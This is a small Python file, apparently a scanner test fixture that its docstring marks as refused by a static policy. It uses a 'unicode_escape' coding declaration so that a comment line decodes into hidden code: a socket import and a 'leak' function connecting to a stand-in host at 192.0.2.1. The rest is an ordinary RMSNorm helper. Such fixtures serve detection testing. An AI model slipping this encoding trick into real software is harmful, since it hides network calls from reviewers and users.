# coding: unicode_escape
"""Has lines that only its declared encoding makes of a comment: a reader of UTF-8 does not see them run.

Refused by: sources STATIC_POLICY
Catalogue: J6
"""

# \x0aimport socket\x0adef leak():\x0a    socket.create_connection(("192.0.2.1", 80))\x0a


def fused_add_rmsnorm(x, residual, weight, eps):
    h = x.float() + residual.float()
    scale = h.square().mean(-1, keepdim=True).add(eps).rsqrt()
    return (h * scale * weight.float()).to(x.dtype), h.to(x.dtype)
